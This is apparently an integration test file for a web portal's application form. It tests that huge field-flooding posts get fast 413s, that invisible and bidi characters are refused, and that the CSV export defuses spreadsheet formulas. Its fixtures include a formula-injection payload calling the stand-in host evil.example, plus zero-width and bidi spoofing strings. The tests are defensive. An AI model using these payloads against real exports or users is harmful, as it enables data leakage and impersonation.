// Issue 39 over HTTP on the built server (both engines: TEST_DATABASE_URL picks PostgreSQL): a post of
// ~500 KiB of distinct field names is answered within 2 s and never stalls /healthz (the contract's
// bounds, docs/security.md), also once the poster's rate limit is spent; invisible characters in
// what people type are a 400 naming the field with nothing written; the applications CSV defuses a
// formula after blanks.
import { generatePrivateKey, privateKeyToAccount, type PrivateKeyAccount } from 'viem/accounts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin } from '../helpers/auth';
import { getPage, postForm, textOf } from '../helpers/forms';
import { distinctNames, send, type Answer, type Sent } from '../helpers/fuzz-requests';
import { startPortalOnOwnDatabase, type OwnDatabasePortal } from '../helpers/own-database';
import { signIn } from '../helpers/siwe';

let portal: OwnDatabasePortal;
let adminCookie: string;
let applicationId: string;

const newAccount = () => privateKeyToAccount(generatePrivateKey());

async function apply(account: PrivateKeyAccount, fields: Record<string, string>) {
	const cookie = await signIn(portal.url, account);
	return { cookie, answer: await postForm(`${portal.url}/apply`, fields, { cookie }) };
}

const timed = async (request: Sent): Promise<{ answer: Answer; ms: number }> => {
	const started = performance.now();
	const answer = await send(new URL(portal.url), request);
	return { answer, ms: performance.now() - started };
};

/**
 * Posts `body` to `path` and asks /healthz while the server reads it; `health.ms` is how much longer
 * that took than /healthz asked just before (the stall the post caused, not the shared machine's pace).
 */
async function postWithHealthCheck(path: string, cookie: string, body: ReturnType<typeof distinctNames>) {
	const headers = { origin: portal.url, accept: 'text/html', cookie, 'content-type': body.contentType! };
	const idle = await timed({ method: 'GET', path: '/healthz', headers: {} });
	const post = timed({ method: 'POST', path, headers, body: body.body });
	await new Promise((resolve) => setTimeout(resolve, 5));
	const health = await timed({ method: 'GET', path: '/healthz', headers: {} });
	return { post: await post, health: { answer: health.answer, ms: health.ms - idle.ms } };
}

/**
 * The contract's bounds (2 s for the post, /healthz meanwhile within 200 ms of its idle time), on the
 * best of five tries: the machine the tests share may pause any one request, while the quadratic reader
 * took 10-35 s every time.
 */
async function withinBounds(path: string, cookie: string, body: ReturnType<typeof distinctNames>) {
	let last = await postWithHealthCheck(path, cookie, body);
	for (let i = 1; i < 5 && (last.post.ms >= 2000 || last.health.ms >= 200); i++)
		last = await postWithHealthCheck(path, cookie, body);
	return last;
}

beforeAll(async () => {
	portal = await startPortalOnOwnDatabase({ ADMIN_ADDRESSES: admin.address });
	adminCookie = await signIn(portal.url, admin);
	const form = await postForm(
		`${portal.url}/admin/form?/save`,
		{
			questionCount: '1',
			'questions.0.key': 'city',
			'questions.0.label': 'City',
			'questions.0.type': 'long_text'
		},
		{ cookie: adminCookie }
	);
	expect(form.status).toBe(303);
	const rubric = await postForm(
		`${portal.url}/admin/form?/rubric`,
		{ criterionCount: '1', 'criteria.0.key': 'fit', 'criteria.0.label': 'Fit' },
		{ cookie: adminCookie }
	);
	expect(rubric.status).toBe(303);
	// One application whose fields start formulas after blanks (the CSV cases), for the admin to vote on.
	const applicant = newAccount();
	const applied = await apply(applicant, {
		displayName: 'Nick; =HYPERLINK("http://evil.example/?leak","open")',
		motivation: 'Because',
		contact: 'reach me; =1+1',
		'answers.city': 'first line\n  @SUM(1+1)'
	});
	expect(applied.answer.status).toBe(303);
	const table = await getPage(`${portal.url}/admin?q=${applicant.address}`, adminCookie);
	applicationId = /href="\/admin\/applications\/([0-9a-f-]{36})"/.exec(table.body)![1]!;
}, 120_000);
afterAll(() => portal?.stop());

describe('a post of ~500 KiB of distinct field names', () => {
	it.each([
		['/apply', 'answers', false],
		['/apply', 'answers', true],
		['/review/[id]?/vote', 'score', false],
		['/review/[id]?/vote', 'score', true]
	] as const)(
		'%s with %s.<n> (multipart: %s) is a 413 within 2 s, /healthz meanwhile within 200 ms of its idle time',
		async (route, prefix, multipart) => {
			const cookie = route === '/apply' ? await signIn(portal.url, newAccount()) : adminCookie;
			const body = distinctNames([prefix], 500 * 1024, multipart);
			expect(body.body.length).toBeLessThan(512 * 1024);
			const { post, health } = await withinBounds(route.replace('[id]', applicationId), cookie, body);
			expect(post.answer.status).toBe(413);
			expect(textOf(post.answer.body)).toMatch(/at most 2000 fields/);
			expect(post.ms).toBeLessThan(2000);
			expect(health.answer.status).toBe(200);
			expect(health.ms).toBeLessThan(200);
		}
	);

	it('under the field bound, 2000 distinct answers.<n> get the normal answer (the form’s own 400) within 2 s', async () => {
		const cookie = await signIn(portal.url, newAccount());
		const body = distinctNames(['answers'], 2000 * 14);
		const { post, health } = await withinBounds('/apply', cookie, body);
		expect(post.answer.status).toBe(400);
		expect(textOf(post.answer.body)).toMatch(/Display name is required/);
		expect(post.ms).toBeLessThan(2000);
		expect(health.ms).toBeLessThan(200);
	});

	it('once the rate limit is spent: a huge body is still a fast 413 and a bounded one a fast 429', async () => {
		const cookie = await signIn(portal.url, newAccount());
		let status = 0;
		for (let i = 0; i < 10 && status !== 429; i++)
			status = (await postForm(`${portal.url}/apply`, { displayName: '' }, { cookie })).status;
		expect(status).toBe(429);
		for (const [bytes, expected] of [
			[500 * 1024, 413],
			[1990 * 14, 429]
		] as const) {
			const { post, health } = await withinBounds('/apply', cookie, distinctNames(['answers'], bytes));
			expect(post.answer.status).toBe(expected);
			expect(post.ms).toBeLessThan(2000);
			expect(health.ms).toBeLessThan(200);
		}
	});
});

describe('invisible and text-direction characters', () => {
	it('are refused with a 400 naming the field, and nothing is written', async () => {
		const cases = [
			['displayName', 'Ada\u202eevil', /Display name must not contain invisible/],
			['contact', '@a\u200bda', /Contact must not contain invisible/],
			['motivation', 'Because\n\u2066I say so\u2069', /Motivation must not contain invisible/],
			['answers.city', 'Lis\u200fbon', /City must not contain invisible/],
			['displayName', 'pay\u200cpal', /Display name must not contain invisible/]
		] as const;
		// Signed in first: a sign-in writes the member's row.
		const cookies = await Promise.all(cases.map(() => signIn(portal.url, newAccount())));
		const before = await portal.rowCounts();
		const valid = { displayName: 'Ada', motivation: 'Because', contact: '@ada', 'answers.city': 'Lisbon' };
		for (const [i, [field, value, message]] of cases.entries()) {
			const answer = await postForm(`${portal.url}/apply`, { ...valid, [field]: value }, { cookie: cookies[i] });
			expect(answer.status, field).toBe(400);
			expect(textOf(answer.body)).toMatch(message);
		}
		expect(await portal.rowCounts()).toEqual(before);
	}, 120_000);

	it('keep real text: Arabic, Hebrew and an emoji ZWJ sequence are taken', async () => {
		const { answer } = await apply(newAccount(), {
			displayName: 'مرحبا שלום 👩🏽‍💻',
			motivation: 'می‌خواهم',
			'answers.city': '🏳️‍🌈'
		});
		expect(answer.status).toBe(303);
	});
});

describe('applications.csv', () => {
	it('defuses a formula start after blanks that follow a separator or a line end', async () => {
		const csv = await getPage(`${portal.url}/admin/applications.csv`, adminCookie);
		expect(csv.status).toBe(200);
		expect(csv.body).toContain(`"Nick; '=HYPERLINK(""http://evil.example/?leak"",""open"")"`);
		expect(csv.body).toContain(`"reach me; '=1+1"`);
		expect(csv.body).toContain(`"first line\n  '@SUM(1+1)"`);
		expect(csv.body).not.toMatch(/[;\n] +[=+\-@]/);
	});
});
